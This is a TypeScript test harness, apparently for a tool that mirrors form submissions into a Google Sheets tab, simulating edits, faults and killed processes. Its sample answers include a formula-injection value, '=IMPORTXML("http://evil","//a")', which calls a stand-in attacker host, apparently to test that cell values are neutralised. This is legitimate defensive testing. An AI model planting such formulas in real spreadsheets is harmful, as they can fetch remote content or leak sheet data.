import { MirrorError } from '../../../src/base/errors.ts';
import { canonicalTime } from '../../../src/mirror/canonical-time.ts';
import type { Target } from '../../../src/mirror/target.ts';
import type { Cell, FormIdentity, PickedField, Row } from '../../../src/mirror/types.ts';
import type { FaultRule } from '../../../src/sandbox/faults.ts';
import { field, pass, row } from '../../contract/target-harness.ts';
import { type Deed, SheetPeople } from './sheet-people.ts';
import { SheetView } from './sheet-view.ts';
import { type SheetsPlace, sheetsPlace, SleepersClock } from './sheets-place.ts';

/** What happens at the source. */
export const SOURCE_CHANGES = [
  'add',
  'add',
  'answer',
  'clear',
  'status',
  'delete',
  'return',
  'relabel',
  'addField',
  'dropField',
] as const;

/** One of {@link SOURCE_CHANGES}, with a number that decides what is not said. */
export interface SourceChange {
  readonly kind: (typeof SOURCE_CHANGES)[number];
  readonly n: number;
}

/** How a pass goes. */
export interface PassPlan {
  /** Before which of its requests people do something. */
  readonly during: readonly { readonly at: number; readonly deed: Deed }[];
  readonly fault?: FaultRule | undefined;
  /** Before which of its requests the process is killed. */
  readonly killAt?: number | undefined;
  /** In a process of its own. */
  readonly elsewhere: boolean;
}

/** Nothing goes wrong, so nothing may fail. */
const CALM: PassPlan = { during: [], elsewhere: false };
const FORM: FormIdentity = { id: 'frm_life', slug: 'life', name: 'Life: of a form' };
const TIME_ZONE = 'Europe/Prague';
const ANSWERS: readonly Cell[] = [
  '=IMPORTXML("http://evil","//a")',
  '+420777123456',
  '00123',
  '12345678901234567',
  '1-2',
  'two\nlines',
  "'quoted",
  42,
  -1.5,
  'žluťoučký 😀',
  'TRUE',
  '',
  null,
  '@SUM(A1)',
];

/** What the record of a pass is written with: metadata, and the rows of the Mirror tab. */
const RECORD_KINDS = new Set([
  'createDeveloperMetadata',
  'updateDeveloperMetadata',
  'deleteDeveloperMetadata',
  'updateCells',
]);

/** Thrown into a pass where its process is killed. */
class Killed extends Error {}

/** A source, a sheet, and people at it. */
export class SheetLife {
  readonly place: SheetsPlace;
  readonly clock: LivelyClock;
  readonly view: SheetView;
  readonly people: SheetPeople;
  readonly source = new Map<string, Row>();
  readonly gone = new Map<string, Row>();
  fields: PickedField[] = [
    field('field_1_name', 'Name'),
    field('field_2_age', 'Age', { position: 1 }),
    field('field_3_note', 'Note', { position: 2 }),
  ];
  /** Labels that fields have had, by field. */
  readonly labels = new Map<string, Set<string>>();
  #target: Target;
  #count = 0;

  private constructor(place: SheetsPlace, clock: LivelyClock, target: Target) {
    this.place = place;
    this.clock = clock;
    this.#target = target;
    this.view = new SheetView(place);
    const isSubmission = (id: string): boolean => this.source.has(id) || this.gone.has(id);
    this.people = new SheetPeople(this.view, TIME_ZONE, isSubmission);
  }

  /** A sheet that already has a few rows. */
  static async begin(): Promise<SheetLife> {
    const clock = new LivelyClock();
    const quota = { perSpreadsheetMs: 1_000, perMinute: 60 };
    const place = await sheetsPlace({ clock, quota, spreadsheet: { timeZone: TIME_ZONE } });
    const life = new SheetLife(place, clock, await place.open());
    for (let n = 0; n < 4; n++) life.change({ kind: 'add', n });
    await life.pass();
    return life;
  }

  /** Something happens at the source. */
  change({ kind, n }: SourceChange): void {
    const id = [...this.source.keys()][n % Math.max(1, this.source.size)];
    const fieldId = this.fields[n % this.fields.length]?.id ?? '';
    if (kind === 'add') {
      for (let left = 1 + (n % 4); left > 0; left--) this.#add(n + left);
    } else if (kind === 'return') {
      for (const [back, item] of this.gone) this.source.set(back, item);
      this.gone.clear();
    } else if (kind === 'addField') {
      const position = this.fields.length;
      this.fields.push(field(`field_${this.#count++}_${n}`, `Extra ${n % 3}`, { position }));
    } else if (kind === 'dropField' || kind === 'relabel') {
      this.fields = this.fields.map((one) => {
        if (one.id !== fieldId) return one;
        const { label, position, inSchema } = one;
        this.labels.set(fieldId, (this.labels.get(fieldId) ?? new Set()).add(label));
        return kind === 'relabel'
          ? field(fieldId, `Label ${n % 7}`, { position, inSchema })
          : field(fieldId, label, { position, inSchema: !inSchema });
      });
    } else if (id !== undefined) this.#changeRow(id, fieldId, kind, n);
  }

  #changeRow(
    id: string,
    fieldId: string,
    kind: 'answer' | 'clear' | 'status' | 'delete',
    n: number,
  ): void {
    const old = this.source.get(id);
    if (old === undefined) return;
    if (kind === 'delete') {
      this.gone.set(id, old);
      this.source.delete(id);
    } else if (kind === 'status') {
      this.source.set(id, { ...old, status: ['NEW', 'PAID', 'DONE'][n % 3] ?? 'NEW' });
    } else {
      const value = kind === 'clear' ? null : (ANSWERS[n % ANSWERS.length] ?? null);
      this.source.set(id, { ...old, cells: new Map(old.cells).set(fieldId, value) });
    }
  }

  #add(n: number): void {
    const id = `sub_${String(this.#count++).padStart(4, '0')}`;
    const cells = Object.fromEntries(
      this.fields.map((one, place) => [one.id, ANSWERS[(n + place) % ANSWERS.length] ?? null]),
    );
    const createdAt = canonicalTime(new Date(Date.UTC(2026, 2, 28) + n * 3_333_333).toISOString());
    this.source.set(id, row(id, cells, { createdAt }));
  }

  /** A full pass. What may go wrong in it goes wrong; what must not is thrown. Returns true when it went well. */
  async pass(plan: PassPlan = CALM): Promise<boolean> {
    const { faults } = this.place.sandbox;
    faults.clear();
    if (plan.fault !== undefined) faults.add(plan.fault);
    let killed = false;
    this.clock.onSleep = (count) => {
      for (const { at, deed } of plan.during) if (at === count) this.people.do(deed);
      if (plan.killAt !== count) return;
      killed = true;
      throw new Killed();
    };
    if (plan.elsewhere) this.#target = await this.place.openElsewhere();
    try {
      await this.#mirror(this.#target, () => killed);
      return true;
    } catch (error) {
      if (isIdColumnGone(error) && this.people.followRemedy()) {
        return plan === CALM ? await this.pass() : false;
      }
      const fair = plan !== CALM && error instanceof MirrorError && isFairFailure(error);
      if (!killed && !fair) throw error;
    } finally {
      this.clock.onSleep = () => {};
      faults.clear();
    }
    if (killed) {
      this.#target = await this.place.openElsewhere();
      this.clock.advance(120_000);
    }
    return false;
  }

  /** What a pass after others does besides being recorded, where source and sheet stay as they are: kinds of requests. */
  async restlessWrites(): Promise<readonly string[]> {
    const plan: PassPlan = { during: [], elsewhere: true };
    const { requests } = this.place.sandbox;
    for (let round = 0; round < 3; round++) await this.pass(plan);
    requests.clear();
    const isDone = await this.pass(plan);
    // A tab that is protected as a whole fails each of its passes.
    const written = isDone
      ? requests.all().filter((one) => one.kind === 'write' && one.applied)
      : [];
    const kinds = written.map((one) => one.requestKinds);
    return kinds.flatMap((all) =>
      all.every((kind) => RECORD_KINDS.has(kind)) ? [] : [all.join()],
    );
  }

  async #mirror(target: Target, killed: () => boolean): Promise<void> {
    const writer = await target.openWriter(FORM, { waitMs: 300_000 });
    try {
      await writer.prepare(this.fields);
      await writer.losses();
      const rows = [...this.source.values()];
      for (let start = 0; start < rows.length; start += 7) {
        await writer.apply(rows.slice(start, start + 7), []);
      }
      const missing: string[] = [];
      for await (const ids of writer.liveIds()) {
        // The source answers 404 for what it knows as deleted, and for what it never had.
        missing.push(...ids.filter((id) => !this.source.has(id)));
      }
      const at = new Date(this.clock.now()).toISOString();
      await writer.markDeleted(missing, at);
      const checkpoint = {
        watermark: at,
        total: rows.length,
        provenAt: at,
        fullProvenAt: at,
        absent: 0,
        withheld: 0,
        hidden: 0,
        provenFor: '',
        statuses: null,
        unstored: new Map(),
        countsAt: null,
      };
      await writer.finish(pass({ kind: 'full', endedAt: at }), { checkpoint });
    } finally {
      // A killed process gives nothing back.
      if (!killed()) await writer[Symbol.asyncDispose]();
    }
  }
}

/** Failures that a pass may have when people and faults get in its way: the next one takes it up. */
const isFairFailure = (error: MirrorError): boolean =>
  (error.retryable && error.code.startsWith('TARGET_')) || /protected range/.test(error.message);

const isIdColumnGone = (error: unknown): boolean =>
  error instanceof MirrorError && error.message.includes('column of submission IDs was deleted');

/** Sleepers wake at once; before they do, others get their turn. */
class LivelyClock extends SleepersClock {
  #onSleep: (count: number) => void = () => {};
  #count = 0;

  /** Told before each wait of a pass; `count` is from 0 for each pass. */
  set onSleep(handler: (count: number) => void) {
    this.#onSleep = handler;
    this.#count = 0;
  }

  override async sleep(ms: number, signal?: AbortSignal): Promise<void> {
    await super.sleep(ms, signal);
    this.#onSleep(this.#count++);
  }
}
